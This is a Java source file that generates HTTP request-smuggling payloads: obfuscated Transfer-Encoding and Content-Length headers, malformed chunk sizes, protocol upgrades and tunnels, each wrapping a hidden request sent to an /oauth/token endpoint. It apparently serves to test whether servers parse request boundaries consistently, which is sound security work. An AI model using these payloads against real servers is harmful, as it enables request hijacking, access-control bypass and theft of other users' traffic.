package io.ringcode.attack;

import static java.util.Map.entry;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** Requests whose end two servers may see in different places, so that the rest would be a request that the first has not seen. */
record Smuggling(String host, String hidden) {
    /** @param shape what is wrong with it */
    record Attack(String shape, String request) {}

    private static final List<String> OBSCURE_ENCODINGS = List.of(
            "Transfer-Encoding: chunked",
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding:\tchunked",
            "Transfer-Encoding: \u000bchunked",
            "Transfer-Encoding: \"chunked\"",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: gzip, chunked",
            "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
            "Transfer-Encoding:\r\n chunked",
            "X-Folded: y\r\n Transfer-Encoding: chunked",
            "Transfer_Encoding: chunked",
            "TRANSFER-ENCODING: CHUNKED",
            "X: y\rTransfer-Encoding: chunked",
            "X: y\nTransfer-Encoding: chunked",
            "X: y\u0000\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding");

    /** By what they say of a body that is the hidden request itself; {@code N} stands for its length. */
    private static final List<String> OBSCURE_LENGTHS = List.of(
            "Content-Length: 0\r\nContent-Length: N",
            "Content-Length: N\r\nContent-Length: 0",
            "Content-Length: 0, N",
            "Content-Length: N, N",
            "Content-Length: +N",
            "Content-Length: -N",
            "Content-Length: 0xN",
            "Content-Length : N",
            "Content-Length: N\r\nConnection: Content-Length",
            "Content-Length:\r\n N",
            "Content_Length: N",
            "X: y\rContent-Length: N",
            "Content-Length: 99999999999999999999",
            "Content-Length: N\r\nExpect: 100-continue",
            "Content-Length: N\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings",
            "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==");

    private static final Map<String, String> OBSCURE_CHUNKS = Map.ofEntries(
            entry("a size in another form", "0x0\r\n\r\n"),
            entry("a negative size", "-1\r\n\r\n"),
            entry("a size that overflows", "ffffffffffffffff0\r\n\r\n"),
            entry("a size that wraps to nothing", "10000000000000000\r\n\r\n"),
            entry("bare line feeds", "0\n\n"),
            entry("an extension with a line feed", "0;x\n\r\n\r\n"),
            entry("a trailer that is a length", "0\r\nContent-Length: 5\r\n\r\n"),
            entry("a trailer that is an address", "0\r\nX-Forwarded-For: 198.51.100.99\r\n\r\n"),
            entry("no size", "\r\n\r\n"));

    List<Attack> all() {
        var all = new ArrayList<Attack>();
        var ended = "0\r\n\r\n" + hidden;
        for (var encoding : OBSCURE_ENCODINGS)
            for (var length : List.of(ended.length(), 5))
                all.add(attack(encoding + " beside " + length, "POST", "1.1", encoding, length, ended));
        for (var length : OBSCURE_LENGTHS)
            for (var method : List.of("POST", "GET"))
                all.add(attack(length, method, "1.1", length.replace("N", "" + hidden.length()), -1, hidden));
        OBSCURE_CHUNKS.forEach((shape, chunk) ->
                all.add(attack(shape, "POST", "1.1", "Transfer-Encoding: chunked", -1, chunk + hidden)));
        var inside = Integer.toHexString(hidden.length()) + "\r\n" + hidden + "\r\n0\r\n\r\n";
        all.add(attack("a length up to the first chunk", "POST", "1.1", "Transfer-Encoding: chunked", 4, inside));
        all.add(attack("chunks of HTTP/1.0", "POST", "1.0", "Transfer-Encoding: chunked", -1, ended));
        all.add(attack("neither length nor chunks", "POST", "1.1", "X: y", -1, hidden));
        all.add(attack("neither length nor chunks, of HTTP/1.0", "POST", "1.0", "X: y", -1, hidden));
        all.add(attack("another version", "POST", "1.2", "X: y", 0, hidden));
        all.add(new Attack("a tunnel", "CONNECT " + host + ":80 HTTP/1.1\r\nHost: " + host + ":80\r\n\r\n" + hidden));
        all.add(new Attack("a request of HTTP/0.9", "GET /health/live\r\n\r\n" + hidden));
        return all;
    }

    /** @param length what it says too; -1 for nothing */
    private Attack attack(String shape, String method, String version, String headers, int length, String body) {
        var head = method + " /oauth/token HTTP/" + version + "\r\nHost: " + host + "\r\nConnection: close\r\n"
                + "Content-Type: application/x-www-form-urlencoded\r\n";
        if (length >= 0) head += "Content-Length: " + length + "\r\n";
        return new Attack(method + " with " + shape, head + headers + "\r\n\r\n" + body);
    }
}
